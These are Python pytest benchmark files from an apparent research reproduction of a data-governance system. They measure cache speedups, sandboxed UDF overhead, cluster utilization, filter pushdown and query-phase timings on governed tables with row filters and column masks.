    admin.sql("ALTER TABLE main.s.sales ALTER COLUMN buyer SET MASK ('***')")

    # Wide projection + multi-predicate WHERE: heavy to decode/resolve/
    # optimize under policies, cheap to execute over 8 rows.
    projections = ", ".join(f"amount * {i}.5 + id AS x{i}" for i in range(12))
    query = (
        f"SELECT id, region, {projections} FROM main.s.sales "
        "WHERE amount > 1.0 AND region <> 'LATAM' AND id < 1000 "
        "AND amount < 999.0 ORDER BY id"
    )

    def run_repeated(cluster) -> float:
        alice = cluster.connect("alice")
        reference = alice.sql(query).collect()  # warm-up + correctness probe
        assert len(reference) == 6  # amounts 0.0 and 1.0 filtered out

        def burst():
            for _ in range(REPEATED_QUERIES):
                alice.sql(query).collect()

        return best_time(burst, repeats=3)

    cached = ws.create_standard_cluster(name="caches-on", num_executors=2)
    uncached = ws.create_standard_cluster(
        name="caches-off",
        num_executors=2,
        enable_plan_cache=False,
        enable_credential_cache=False,
    )
    t_off = run_repeated(uncached)
    t_on = run_repeated(cached)
    reduction = t_off / t_on

    plan_stats = cached.backend.plan_cache.stats_snapshot()
    cred_stats = cached.backend.data_source.credential_cache.stats_snapshot()
    print_table(
        f"{REPEATED_QUERIES} repeated governed queries",
        ["caches", "total ms", "per query ms", "reduction"],
        [
            ["off", f"{t_off * 1000:.1f}", f"{t_off * 1000 / REPEATED_QUERIES:.2f}", "1.00x"],
            ["on", f"{t_on * 1000:.1f}", f"{t_on * 1000 / REPEATED_QUERIES:.2f}", f"{reduction:.2f}x"],
        ],
    )
    RESULTS["repeat"] = {
        "repeated_queries": REPEATED_QUERIES,
        "caches_off_ms": t_off * 1000,
        "caches_on_ms": t_on * 1000,
        "reduction": reduction,
        "plan_cache": plan_stats,
        "credential_cache": cred_stats,
    }
    RESULTS["cache_stats_table"] = {
        name: dict(stats) for name, stats in sorted(ws.catalog.cache_stats().items())
    }
    assert plan_stats["hits"] > 0 and cred_stats["hits"] > 0
    assert reduction >= 3.0, (
        f"cache on/off reduction was only {reduction:.2f}x"
    )


def test_write_json():
    """Persist both measurements (runs after the two benchmarks above)."""
    if "scan" not in RESULTS or "repeat" not in RESULTS:
        pytest.skip("benchmarks did not run")
    path = write_bench_json(
        "parallel_cache",
        params={
            "num_files": NUM_FILES,
            "rows_per_file": ROWS_PER_FILE,
            "executor_counts": list(EXECUTOR_COUNTS),
            "repeated_queries": REPEATED_QUERIES,
            "data_file_latency_ms": DATA_FILE_LATENCY_SECONDS * 1000,
        },
        extra={"results": RESULTS},
    )
    print(f"\nwrote {path}")
