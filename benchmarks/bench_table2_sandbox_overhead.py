"""E2 — Table 2: relative overhead of sandboxed vs in-engine Python UDFs.

Paper's setup: a fixed number of rows, a UDF per row; 'Simple UDF'
(sum(a+b), worst case: overhead dominated by moving batches into the
sandbox) and 'Hash UDF' (100×SHA-256, CPU-dense: overhead amortized);
1/2/5/10 chained UDFs to validate fusion.

Paper's numbers: ~9.5-12% (simple), ~3.4-4.8% (hash), roughly flat in the
number of UDFs. We reproduce the *shape*: simple-UDF overhead strictly
larger than hash-UDF overhead, both bounded, and flat-ish growth with the
UDF count thanks to fusion.
"""

from __future__ import annotations

import pytest

from harness import best_time, hash_udf_fn, print_table, simple_udf_fn

from repro.engine.analyzer import DictResolver
from repro.engine.executor import ExecutionConfig, QueryEngine
from repro.engine.expressions import Alias, UDFRuntime, col
from repro.engine.logical import LocalRelation, Project, UnresolvedRelation
from repro.engine.types import INT, Field, Schema
from repro.engine.udf import PythonUDF
from repro.sandbox import ClusterManager, Dispatcher, SandboxedUDFRuntime

SIMPLE_ROWS = 40_000
HASH_ROWS = 1_500
UDF_COUNTS = (1, 2, 5, 10)


def make_engine(num_rows: int) -> QueryEngine:
    schema = Schema((Field("a", INT), Field("b", INT)))
    data = LocalRelation(
        schema,
        [[i % 97 for i in range(num_rows)], [i % 31 for i in range(num_rows)]],
    )
    return QueryEngine(
        DictResolver({"t": data}), config=ExecutionConfig(batch_size=8192)
    )


def udf_query(fn, return_type: str, num_udfs: int):
    udf_obj = PythonUDF("bench_udf", fn, _type(return_type), owner="alice")
    exprs = [
        Alias(udf_obj(col("a"), col("b")), f"c{i}") for i in range(num_udfs)
    ]
    return Project(UnresolvedRelation("t"), exprs)


def _type(name: str):
    from repro.engine.types import type_from_name

    return type_from_name(name)


def run_query(engine: QueryEngine, plan, runtime: UDFRuntime) -> None:
    engine.execute(plan, user="alice", udf_runtime=runtime)


def sandboxed_runtime() -> SandboxedUDFRuntime:
    return SandboxedUDFRuntime(Dispatcher(ClusterManager()), "bench-session")


def measure_overhead(fn, return_type: str, num_rows: int, num_udfs: int) -> float:
    engine = make_engine(num_rows)
    plan = udf_query(fn, return_type, num_udfs)
    inline = best_time(lambda: run_query(engine, plan, UDFRuntime()))
    runtime = sandboxed_runtime()  # warm one sandbox across repeats
    run_query(engine, plan, runtime)  # pay the cold start outside timing
    sandboxed = best_time(lambda: run_query(engine, plan, runtime))
    return (sandboxed - inline) / inline * 100.0


@pytest.fixture(scope="module")
def overhead_table():
    rows = []
    for num_udfs in UDF_COUNTS:
        simple = measure_overhead(simple_udf_fn, "int", SIMPLE_ROWS, num_udfs)
        hashed = measure_overhead(hash_udf_fn, "string", HASH_ROWS, num_udfs)
        rows.append((num_udfs, simple, hashed))
    print_table(
        "Table 2 — relative worst-case overhead of sandboxed Python UDFs",
        ["Num UDF", "Simple UDF sum(a+b)", "Hash UDF 100x SHA256"],
        [[n, f"{s:+.2f}%", f"{h:+.2f}%"] for n, s, h in rows],
    )
    print(
        "paper reference:  1 -> 9.53% / 3.37%   2 -> 8.44% / 4.29%   "
        "5 -> 11.19% / 4.77%   10 -> 12.02% / 4.15%"
    )
    return rows


def test_shape_simple_overhead_exceeds_hash(overhead_table):
    """CPU-dense UDFs amortize the isolation cost (paper: 10% vs ~4.8%)."""
    avg_simple = sum(r[1] for r in overhead_table) / len(overhead_table)
    avg_hash = sum(r[2] for r in overhead_table) / len(overhead_table)
    assert avg_simple > avg_hash


def test_shape_fusion_keeps_growth_bounded(overhead_table):
    """10 fused UDFs must not cost 10x the single-UDF overhead."""
    by_count = {r[0]: r[1] for r in overhead_table}
    assert by_count[10] < max(by_count[1], 1.0) * 10


def test_shape_hash_overhead_small(overhead_table):
    """CPU-dense isolation overhead stays small (paper: ~3-5%).

    Wall-clock noise under parallel load can inflate individual cells, so
    the check uses the *best* cell: if even that is large, isolation is
    genuinely expensive for CPU-dense UDFs and the paper's claim fails.
    """
    best_hash = min(r[2] for r in overhead_table)
    assert best_hash < 15.0, f"hash UDF overhead unexpectedly high: {best_hash:.1f}%"


def test_benchmark_sandboxed_simple_udf(benchmark, overhead_table):
    engine = make_engine(SIMPLE_ROWS)
    plan = udf_query(simple_udf_fn, "int", 1)
    runtime = sandboxed_runtime()
    run_query(engine, plan, runtime)  # warm
    benchmark(lambda: run_query(engine, plan, runtime))


def test_benchmark_inline_simple_udf(benchmark):
    engine = make_engine(SIMPLE_ROWS)
    plan = udf_query(simple_udf_fn, "int", 1)
    benchmark(lambda: run_query(engine, plan, UDFRuntime()))


def test_benchmark_sandboxed_hash_udf(benchmark):
    engine = make_engine(HASH_ROWS)
    plan = udf_query(hash_udf_fn, "string", 1)
    runtime = sandboxed_runtime()
    run_query(engine, plan, runtime)
    benchmark(lambda: run_query(engine, plan, runtime))


def test_benchmark_inline_hash_udf(benchmark):
    engine = make_engine(HASH_ROWS)
    plan = udf_query(hash_udf_fn, "string", 1)
    benchmark(lambda: run_query(engine, plan, UDFRuntime()))
