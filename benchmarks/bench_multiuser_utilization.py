"""E8 — utilization: Lakeguard multi-user vs Membrane split vs per-user.

Quantifies the §7 arguments:
- Membrane's static two-domain split under-utilizes variable workloads;
- per-user clusters waste capacity on idle interactive sessions;
- Lakeguard's shared Standard cluster pays only a small isolation overhead.
"""

import pytest

from harness import print_table

from repro.baselines.membrane import MembraneClusterModel, WorkloadPhase, bursty_phases
from repro.baselines.per_user_clusters import (
    simulate_per_user_clusters,
    simulate_shared_cluster,
    working_day_sessions,
)


class TestMembraneComparison:
    """Shared Lakeguard cluster vs Membrane's static two-domain split."""

    @pytest.fixture(scope="class")
    def sweep(self):
        model = MembraneClusterModel(total_nodes=20, user_domain_nodes=8)
        rows = []
        scenarios = {
            "steady 60/40 (matches split)": [
                WorkloadPhase(60, 40) for _ in range(10)
            ],
            "engine-heavy 90/10": [WorkloadPhase(90, 10) for _ in range(10)],
            "udf-heavy 20/80": [WorkloadPhase(20, 80) for _ in range(10)],
            "bursty alternating": bursty_phases(10, 100, 100),
        }
        for label, phases in scenarios.items():
            outcome = model.compare(phases)
            rows.append(
                [
                    label,
                    f"{outcome['membrane'].utilization * 100:.0f}%",
                    f"{outcome['lakeguard'].utilization * 100:.0f}%",
                    f"{outcome['membrane'].makespan / outcome['lakeguard'].makespan:.2f}x",
                ]
            )
        print_table(
            "Membrane (static split) vs Lakeguard (colocated sandboxes)",
            ["workload", "membrane util", "lakeguard util", "membrane slowdown"],
            rows,
        )
        return rows

    def test_lakeguard_always_full(self, sweep):
        assert all(r[2] == "100%" for r in sweep)

    def test_membrane_loses_on_skewed_and_bursty(self, sweep):
        by_label = {r[0]: r for r in sweep}
        for label in ("engine-heavy 90/10", "udf-heavy 20/80", "bursty alternating"):
            slowdown = float(by_label[label][3].rstrip("x"))
            assert slowdown > 1.2, f"{label}: expected Membrane slowdown"

    def test_membrane_fine_when_split_matches(self, sweep):
        slowdown = float(sweep[0][3].rstrip("x"))
        assert slowdown < 1.2


class TestPerUserClusters:
    """Per-user dedicated clusters vs one shared Standard cluster."""

    @pytest.fixture(scope="class")
    def sweep(self):
        rows = []
        for num_users in (5, 20, 50):
            sessions = working_day_sessions(num_users, busy_fraction=0.15)
            per_user = simulate_per_user_clusters(sessions)
            shared = simulate_shared_cluster(sessions)
            rows.append(
                [
                    num_users,
                    f"{per_user.node_hours:.0f}",
                    f"{shared.node_hours:.0f}",
                    f"{per_user.node_hours / shared.node_hours:.1f}x",
                    f"{per_user.utilization * 100:.0f}%",
                    f"{shared.utilization * 100:.0f}%",
                ]
            )
        print_table(
            "Per-user clusters vs shared multi-user Standard cluster "
            "(8h day, 4h sessions, 15% busy)",
            ["users", "per-user node-h", "shared node-h", "cost ratio",
             "per-user util", "shared util"],
            rows,
        )
        return rows

    def test_shared_cheaper_at_every_scale(self, sweep):
        for row in sweep:
            assert float(row[3].rstrip("x")) > 1.0

    def test_savings_grow_with_users(self, sweep):
        ratios = [float(r[3].rstrip("x")) for r in sweep]
        assert ratios == sorted(ratios)


def test_benchmark_utilization_sweep(benchmark):
    sessions = working_day_sessions(100, busy_fraction=0.15)

    def sweep():
        simulate_per_user_clusters(sessions)
        simulate_shared_cluster(sessions)

    benchmark(sweep)
