"""E5 — Fig. 8: source → resolved → rewritten plans, and pushdown payoff.

Reproduces the paper's running example (a `sales` table with a row filter on
a dedicated cluster) showing the three plan stages, then sweeps pushdown
configurations to quantify rows shipped across the eFGAC boundary.
"""

import pytest

from harness import print_table

from repro.baselines.external_filter import external_filter_rules
from repro.core.efgac import efgac_rules
from repro.engine.logical import RemoteScan
from repro.platform import Workspace

NUM_ROWS = 20_000


@pytest.fixture(scope="module")
def governed():
    ws = Workspace()
    ws.add_user("admin", admin=True)
    ws.add_user("alice")
    ws.add_group("analysts", ["alice"])
    ws.catalog.create_catalog("main", owner="admin")
    ws.catalog.create_schema("main.s", owner="admin")
    std = ws.create_standard_cluster()
    admin = std.connect("admin")
    admin.sql(
        "CREATE TABLE main.s.sales (amount float, date string, seller string, region string)"
    )
    ctx = ws.catalog.principals.context_for("admin")
    dates = ["2024-12-01", "2024-12-02", "2024-12-03", "2024-12-04"]
    regions = ["US", "EU", "APAC", "US"]
    ws.catalog.write_table(
        "main.s.sales",
        {
            "amount": [float(i % 1000) for i in range(NUM_ROWS)],
            "date": [dates[i % 4] for i in range(NUM_ROWS)],
            "seller": [f"s{i % 50}" for i in range(NUM_ROWS)],
            "region": [regions[i % 4] for i in range(NUM_ROWS)],
        },
        ctx,
    )
    for grant in (
        "GRANT USE CATALOG ON main TO analysts",
        "GRANT USE SCHEMA ON main.s TO analysts",
        "GRANT SELECT ON main.s.sales TO analysts",
    ):
        admin.sql(grant)
    admin.sql("ALTER TABLE main.s.sales SET ROW FILTER (region = 'US')")
    return ws


QUERY = "SELECT amount, date, seller FROM main.s.sales WHERE date = '2024-12-01'"
AGG_QUERY = (
    "SELECT seller, sum(amount) AS total FROM main.s.sales "
    "WHERE date = '2024-12-01' GROUP BY seller"
)


def run_on_dedicated(ws, rules, query, name):
    ded = ws.create_dedicated_cluster(assigned_user="alice", name=name)
    original = ded.backend.engine_for

    def engine_for(session):
        engine = original(session)
        engine._extra_rules = tuple(rules)
        return engine

    ded.backend.engine_for = engine_for
    client = ded.connect("alice")
    rows = client.sql(query).collect()
    return ded, rows


def test_plan_stages_fig8(governed):
    ws = governed
    ded, rows = run_on_dedicated(ws, efgac_rules(), QUERY, "fig8")
    print(f"\nsource query: {QUERY}")
    print("\nrewritten plan on the dedicated cluster (Fig. 8, right):")
    print(ded.backend.last_result.optimized_plan.explain())
    scans = [
        n
        for n in ded.backend.last_result.optimized_plan.walk()
        if isinstance(n, RemoteScan)
    ]
    assert scans and scans[0].pushed.get("filters") and scans[0].pushed.get("projections")

    # And the same query on standard compute shows the resolved (local) plan.
    std = ws.clusters["standard"]
    std.connect("alice").sql(QUERY).collect()
    print("\nfully resolved plan on the standard cluster (Fig. 8, middle):")
    print(std.backend.last_result.optimized_plan.explain())
    explain = std.backend.last_result.optimized_plan.explain()
    assert "SecureView" in explain


def test_pushdown_payoff_rows_shipped(governed):
    ws = governed
    visible_rows = NUM_ROWS // 2  # region = 'US' half
    matching_rows = NUM_ROWS // 4  # date = 2024-12-01 quarter (all US)

    configs = [
        ("no pushdown (naive remote scan)", []),
        ("scans-only service (LakeFormation-style)", external_filter_rules()),
        ("Lakeguard eFGAC (full pushdown)", efgac_rules()),
    ]
    rows_table = []
    for i, (label, rules) in enumerate(configs):
        ded, _ = run_on_dedicated(ws, rules, AGG_QUERY, f"sweep-{i}")
        shipped = ded.backend.remote_executor.stats.rows_received
        rows_table.append([label, shipped])
    print_table(
        "Fig. 8 payoff — rows shipped across the eFGAC boundary "
        f"(table: {NUM_ROWS} rows, {visible_rows} policy-visible)",
        ["configuration", "rows shipped"],
        rows_table,
    )
    naive, scans_only, full = (r[1] for r in rows_table)
    assert naive == visible_rows
    assert scans_only == matching_rows
    assert full <= 50  # one state row per seller group
    assert full < scans_only < naive


def test_benchmark_efgac_query(benchmark, governed):
    ws = governed
    ded, _ = run_on_dedicated(ws, efgac_rules(), QUERY, "bench-efgac")
    client = ded.connect("alice")
    benchmark(lambda: client.sql(QUERY).collect())


def test_benchmark_local_enforcement_query(benchmark, governed):
    ws = governed
    std = ws.clusters["standard"]
    client = std.connect("alice")
    benchmark(lambda: client.sql(QUERY).collect())
