"""Whole-operator pipeline codegen vs per-operator kernels, quantified.

The PR-4 compiler removed the expression-interpretation tax but kept the
operator boundaries: a governed aggregation still ran filter→project as
one kernel, materialized the intermediate batch, then fed a per-row
aggregate loop dispatching through ``AggregateFunction`` closures. The
pipeline compiler collapses that whole chain into one generated loop.
Two measurements:

(a) **Pipeline vs per-operator kernels** — the same governed
    scan-shaped chain (row-filter predicate, mask ``CASE`` in the
    grouping key, derived aggregate inputs) executed by the fused
    pipeline loop and by the best per-operator plan the PR-4 kernels
    allow (fused filter→project kernel + closure-dispatch aggregate
    update). Same data, same policy expressions. The acceptance floor
    is 1.5x.

(b) **End-to-end ablation** — the same governed GROUP BY query on two
    otherwise-identical clusters, ``engine_fuse_operators`` on vs off
    (both compiling), confirming identical rows and the fused gain in
    a full query.

Emits ``BENCH_operator_codegen.json`` with both tables plus the live
kernel-cache counters (fusion hits/misses, generated source lines).
"""

from __future__ import annotations

import pytest

from harness import best_time, print_table, write_bench_json

from repro.engine.aggregates import AGGREGATE_FUNCTIONS
from repro.engine.batch import ColumnBatch
from repro.engine.compile import KernelCompiler, PipelineSpec, interpret_pipeline
from repro.engine.expressions import (
    Arithmetic,
    BooleanOp,
    BoundRef,
    CaseWhen,
    Comparison,
    EvalContext,
    InList,
    Literal,
)
from repro.engine.types import FLOAT, INT, STRING, Field, Schema
from repro.platform import Workspace

NUM_ROWS = 40_000
END_TO_END_ROWS = 12_000
REPEATS = 5

RESULTS: dict = {}

SCHEMA = Schema(
    (
        Field("id", INT),
        Field("region", STRING),
        Field("amount", FLOAT),
        Field("a", INT),
        Field("b", INT),
    )
)

ID = BoundRef(0, "id", INT)
REGION = BoundRef(1, "region", STRING)
AMOUNT = BoundRef(2, "amount", FLOAT)
A = BoundRef(3, "a", INT)
B = BoundRef(4, "b", INT)


def _make_batch(num_rows: int) -> ColumnBatch:
    regions = ("US", "EU", "APAC", None)
    return ColumnBatch(
        SCHEMA,
        [
            list(range(num_rows)),
            [regions[i % 4] for i in range(num_rows)],
            [None if i % 11 == 0 else float(i % 500) for i in range(num_rows)],
            [i % 97 for i in range(num_rows)],
            [i % 31 for i in range(num_rows)],
        ],
    )


def _governed_chain() -> PipelineSpec:
    """The chain a governed aggregation actually runs: the injected row
    filter, a masked grouping key, and derived aggregate inputs."""
    row_filter = BooleanOp(
        "AND",
        InList(REGION, ("US", "EU")),
        Comparison("<", Arithmetic("*", AMOUNT, Literal(1.15)), Literal(460.0)),
    )
    masked_key = CaseWhen(
        [(InList(REGION, ("US", "EU")), REGION)], Literal("***")
    )
    return PipelineSpec(
        condition=row_filter,
        groupings=(masked_key, Arithmetic("%", A, Literal(7))),
        agg_specs=(
            ("count", False),
            ("sum", True),
            ("min", True),
            ("max", True),
            ("avg", True),
        ),
        agg_inputs=(
            Literal(True),
            Arithmetic("+", Arithmetic("*", AMOUNT, Literal(1.15)), A),
            AMOUNT,
            Arithmetic("/", AMOUNT, Arithmetic("+", B, Literal(1))),
            Arithmetic("%", Arithmetic("+", A, ID), Literal(13)),
        ),
    )


def test_pipeline_vs_per_operator_kernels():
    """(a) One fused loop vs filter→project kernel + closure aggregation."""
    batch = _make_batch(NUM_ROWS)
    ctx = EvalContext(user="alice", groups=frozenset({"analysts"}))
    spec = _governed_chain()
    compiler = KernelCompiler()
    pipeline = compiler.compile_pipeline_spec(spec)
    # The strongest plan PR-4 kernels allow: filter and every grouping /
    # aggregate-input expression in one fused kernel, then the hash
    # aggregate's per-row update loop dispatching through the algebra.
    columns_kernel = compiler.compile_filter_projection(
        spec.condition, spec.groupings + spec.agg_inputs
    )
    assert pipeline is not None and columns_kernel is not None
    funcs = [AGGREGATE_FUNCTIONS[name] for name, _ in spec.agg_specs]
    num_keys = len(spec.groupings)

    def per_operator() -> dict:
        cols = columns_kernel.eval_all(batch, ctx)
        key_cols, value_cols = cols[:num_keys], cols[num_keys:]
        groups: dict[tuple, list] = {}
        for i in range(len(key_cols[0])):
            key = tuple(col[i] for col in key_cols)
            states = groups.get(key)
            if states is None:
                states = [func.create() for func in funcs]
                groups[key] = states
            for j, (func, (_, has_child)) in enumerate(
                zip(funcs, spec.agg_specs)
            ):
                value = value_cols[j][i]
                if value is None and func.ignores_nulls and has_child:
                    continue
                states[j] = func.update(states[j], value)
        return groups

    def fused() -> dict:
        groups: dict[tuple, list] = {}
        pipeline.accumulate(batch, ctx, groups, [None, None])
        return groups

    # Same groups and states before any timing — against both the
    # per-operator plan and the reference interpreter.
    reference: dict[tuple, list] = {}
    interpret_pipeline(spec, batch, ctx, reference)
    assert fused() == per_operator() == reference

    t_ops = best_time(per_operator, repeats=REPEATS)
    t_fused = best_time(fused, repeats=REPEATS)
    speedup = t_ops / t_fused

    print_table(
        f"Fused pipeline vs per-operator kernels ({NUM_ROWS} rows, "
        f"{num_keys} keys, {len(funcs)} aggregates)",
        ["plan", "batch ms", "speedup"],
        [
            ["per-operator kernels", f"{t_ops * 1000:.1f}", "1.00x"],
            ["fused pipeline loop", f"{t_fused * 1000:.1f}", f"{speedup:.2f}x"],
        ],
    )
    RESULTS["pipeline"] = {
        "num_rows": NUM_ROWS,
        "groupings": num_keys,
        "aggregates": len(funcs),
        "per_operator_ms": t_ops * 1000,
        "fused_ms": t_fused * 1000,
        "speedup": speedup,
    }
    assert speedup >= 1.5, (
        f"pipeline-over-per-operator speedup was only {speedup:.2f}x"
    )


def _build_governed_workspace() -> Workspace:
    ws = Workspace()
    ws.add_user("admin", admin=True)
    ws.add_user("alice")
    ws.add_group("analysts", ["alice"])
    ws.catalog.create_catalog("main", owner="admin")
    ws.catalog.create_schema("main.s", owner="admin")
    ctx = ws.catalog.principals.context_for("admin")
    ws.catalog.create_table("main.s.sales", SCHEMA, owner="admin")
    regions = ("US", "EU", "APAC")
    ws.catalog.write_table(
        "main.s.sales",
        {
            "id": list(range(END_TO_END_ROWS)),
            "region": [regions[i % 3] for i in range(END_TO_END_ROWS)],
            "amount": [float(i % 500) for i in range(END_TO_END_ROWS)],
            "a": [i % 97 for i in range(END_TO_END_ROWS)],
            "b": [i % 31 for i in range(END_TO_END_ROWS)],
        },
        ctx,
    )
    admin = ws.create_standard_cluster(name="setup").connect("admin")
    admin.sql("GRANT USE CATALOG ON main TO analysts")
    admin.sql("GRANT USE SCHEMA ON main.s TO analysts")
    admin.sql("GRANT SELECT ON main.s.sales TO analysts")
    admin.sql(
        "ALTER TABLE main.s.sales SET ROW FILTER "
        "(amount > 10.0 AND (region = 'US' OR region = 'EU'))"
    )
    admin.sql(
        "ALTER TABLE main.s.sales ALTER COLUMN region SET MASK "
        "(CASE WHEN is_account_group_member('analysts') THEN region "
        "ELSE '***' END)"
    )
    return ws


def test_end_to_end_fusion_ablation():
    """(b) The same governed GROUP BY, ``engine_fuse_operators`` on vs off."""
    ws = _build_governed_workspace()
    query = (
        "SELECT region, a % 7 AS bucket, count(*) AS n, "
        "sum(amount * 1.15 + a) AS gross, "
        "min(amount) AS lo, max(amount / (b + 1.0)) AS unit, "
        "avg((a + id) % 13) AS spread "
        "FROM main.s.sales "
        "WHERE amount * 1.15 < 460.0 "
        "GROUP BY region, a % 7 ORDER BY region, bucket"
    )

    timings: dict[str, float] = {}
    reference: dict[str, list] = {}
    for label, fuse in (("unfused", False), ("fused", True)):
        cluster = ws.create_standard_cluster(
            name=label,
            engine_fuse_operators=fuse,
            num_executors=1,
        )
        alice = cluster.connect("alice")
        reference[label] = alice.sql(query).collect()  # warm plan/kernel caches
        timings[label] = best_time(
            lambda: alice.sql(query).collect(), repeats=REPEATS
        )
        if fuse:
            RESULTS["kernel_cache"] = cluster.backend.kernel_cache.stats_snapshot()

    assert reference["fused"] == reference["unfused"]
    assert len(reference["fused"]) > 0
    speedup = timings["unfused"] / timings["fused"]

    print_table(
        f"End-to-end governed aggregation ({END_TO_END_ROWS} rows, FGAC on)",
        ["engine_fuse_operators", "query ms", "speedup"],
        [
            ["off", f"{timings['unfused'] * 1000:.1f}", "1.00x"],
            ["on", f"{timings['fused'] * 1000:.1f}", f"{speedup:.2f}x"],
        ],
    )
    RESULTS["end_to_end"] = {
        "num_rows": END_TO_END_ROWS,
        "unfused_ms": timings["unfused"] * 1000,
        "fused_ms": timings["fused"] * 1000,
        "speedup": speedup,
    }
    assert RESULTS["kernel_cache"]["fusion_hits"] > 0
    assert speedup >= 1.0, f"fusion made the query slower: {speedup:.2f}x"


def test_write_json():
    """Persist both measurements (runs after the benchmarks above)."""
    if "pipeline" not in RESULTS or "end_to_end" not in RESULTS:
        pytest.skip("benchmarks did not run")
    path = write_bench_json(
        "operator_codegen",
        params={
            "num_rows": NUM_ROWS,
            "end_to_end_rows": END_TO_END_ROWS,
            "repeats": REPEATS,
        },
        extra={"results": RESULTS},
    )
    print(f"\nwrote {path}")
