"""E4 — Fig. 5: the Spark Connect execution flow, phase by phase.

The figure's pipeline: client DataFrame ops → protobuf plan → gRPC →
deserialize → analyze/optimize/execute → Arrow IPC stream → client. We time
each phase of a representative governed query and print the breakdown.
"""

import time

import pytest

from harness import build_sales_workspace, print_table

from repro.connect import proto
from repro.connect.client import col
from repro.core.plan_codec import PlanDecoder


@pytest.fixture(scope="module")
def stack():
    ws, cluster, admin = build_sales_workspace(num_rows=20_000)
    alice = cluster.connect("alice")
    return ws, cluster, alice


def build_client_plan(alice):
    return (
        alice.table("main.s.sales")
        .filter(col("amount") > 100.0)
        .select(col("id"), (col("amount") * 1.1).alias("gross"))
        .relation
    )


def test_phase_breakdown(stack):
    ws, cluster, alice = stack
    timings: list[tuple[str, float]] = []

    def phase(name):
        class _Timer:
            def __enter__(self_inner):
                self_inner.start = time.perf_counter()

            def __exit__(self_inner, *exc):
                timings.append((name, time.perf_counter() - self_inner.start))

        return _Timer()

    with phase("1. client plan build (DataFrame ops)"):
        relation = build_client_plan(alice)
    with phase("2. serialize to wire format"):
        wire = proto.encode_message(relation)
    with phase("3. deserialize on the server"):
        decoded = proto.decode_message(wire)
    session = cluster.backend._ephemeral_session("alice")
    decoder = cluster.backend._decoder(session)
    with phase("4. decode into logical plan"):
        plan = decoder.relation(decoded)
    engine = cluster.backend.engine_for(session)
    with phase("5. analyze (governance injection)"):
        analyzed = engine.analyze(plan)
    with phase("6. optimize (pushdown, fusion)"):
        optimized = engine.optimize(analyzed)
    with phase("7. execute on governed storage"):
        result = engine.execute_optimized(
            optimized, analyzed, user="alice", auth=session.user_ctx
        )
    with phase("8. stream result batches back"):
        schema, columns = (
            [{"name": f.name, "type": f.dtype.name} for f in result.batch.schema],
            result.batch.columns,
        )
        items = [
            proto.encode_message(
                {"@type": "arrow_batch", "index": 0, "columns": columns}
            )
        ]

    total = sum(t for _, t in timings)
    print_table(
        "Fig. 5 — Spark Connect flow phase breakdown",
        ["phase", "ms", "% of total"],
        [
            [name, f"{t * 1000:.3f}", f"{t / total * 100:.1f}%"]
            for name, t in timings
        ],
    )
    print(f"plan wire size: {len(wire)} bytes; result rows: {result.batch.num_rows}")
    # Shape assertions: execution dominates; protocol overhead is small.
    execute_time = dict(timings)["7. execute on governed storage"]
    protocol_time = (
        dict(timings)["2. serialize to wire format"]
        + dict(timings)["3. deserialize on the server"]
    )
    assert execute_time > protocol_time, "protocol must not dominate execution"


def test_benchmark_end_to_end_query(benchmark, stack):
    ws, cluster, alice = stack
    df = alice.table("main.s.sales").filter(col("amount") > 450.0)
    benchmark(df.collect)


def test_benchmark_plan_serialization(benchmark, stack):
    ws, cluster, alice = stack
    relation = build_client_plan(alice)
    benchmark(lambda: proto.decode_message(proto.encode_message(relation)))


def test_benchmark_analysis_only(benchmark, stack):
    ws, cluster, alice = stack
    relation = build_client_plan(alice)
    session = cluster.backend._ephemeral_session("alice")
    decoder = cluster.backend._decoder(session)
    engine = cluster.backend.engine_for(session)
    plan = decoder.relation(relation)
    benchmark(lambda: engine.analyze(plan))
