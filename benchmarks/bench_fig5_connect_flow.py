"""E4 — Fig. 5: the Spark Connect execution flow, phase by phase.

The figure's pipeline: client DataFrame ops → wire plan → transport →
analyze/optimize/execute → result stream → client. Since the QueryContext
refactor the server records every phase as a span, so this benchmark runs a
real governed query through the Connect service and reads the breakdown out
of the trace tree — the exact same numbers ``system.access.query_profile``
serves — instead of wrapping the phases in its own stopwatches.

Emits ``BENCH_fig5_connect_flow.json`` with the per-phase span timings.
"""

import time

import pytest

from harness import build_sales_workspace, print_table, write_bench_json

from repro.connect import proto
from repro.connect.client import col, udf

NUM_ROWS = 20_000


@pytest.fixture(scope="module")
def stack():
    ws, cluster, admin = build_sales_workspace(num_rows=NUM_ROWS)
    admin.sql("ALTER TABLE main.s.sales SET ROW FILTER (amount >= 0.0)")
    alice = cluster.connect("alice")
    return ws, cluster, alice


def build_client_plan(alice):
    return (
        alice.table("main.s.sales")
        .filter(col("amount") > 100.0)
        .select(col("id"), (col("amount") * 1.1).alias("gross"))
        .relation
    )


def test_phase_breakdown_from_spans(stack):
    ws, cluster, alice = stack

    client_start = time.perf_counter()
    relation = build_client_plan(alice)
    client_build = time.perf_counter() - client_start

    df_rows = alice.execute_relation(relation)
    trace_id = alice.last_trace_id

    telemetry = cluster.backend.telemetry
    spans = telemetry.spans(trace_id=trace_id)
    assert spans, "the governed query must have produced a trace"

    (service,) = [s for s in spans if s.kind == "service.operation"]
    stage_spans = sorted(
        (s for s in spans if s.kind == "pipeline.stage"), key=lambda s: s.start
    )
    total = service.duration

    phases = [
        {"phase": "client plan build", "seconds": client_build},
    ]
    for span in stage_spans:
        phases.append(
            {"phase": f"server {span.attributes['stage']}", "seconds": span.duration}
        )
    in_stages = sum(s.duration for s in stage_spans)
    phases.append(
        {"phase": "service overhead", "seconds": max(0.0, total - in_stages)}
    )

    print_table(
        "Fig. 5 — Spark Connect flow phase breakdown (from spans)",
        ["phase", "ms", "% of service op"],
        [
            [
                p["phase"],
                f"{p['seconds'] * 1000:.3f}",
                f"{p['seconds'] / total * 100:.1f}%" if total else "-",
            ]
            for p in phases
        ],
    )
    print(telemetry.trace_tree(trace_id))

    out = write_bench_json(
        "fig5_connect_flow",
        params={"num_rows": NUM_ROWS, "trace_id": trace_id},
        phases=phases,
        extra={
            "span_kinds": sorted(telemetry.span_kinds(trace_id)),
            "result_rows": len(df_rows[1][0]) if df_rows[1] else 0,
        },
    )
    print(f"wrote {out}")

    # Shape assertions: every enforcement stage appears, execution dominates
    # the wire-protocol bookkeeping, and the trace is internally consistent.
    stages = [s.attributes["stage"] for s in stage_spans]
    assert stages == [
        "parse", "resolve-secure", "efgac-rewrite", "optimize",
        "encode-plan", "execute", "stream",
    ]
    execute = next(s for s in stage_spans if s.attributes["stage"] == "execute")
    parse = next(s for s in stage_spans if s.attributes["stage"] == "parse")
    assert execute.duration > parse.duration, "execution must dominate parsing"
    assert all(s.start >= service.start for s in stage_spans)


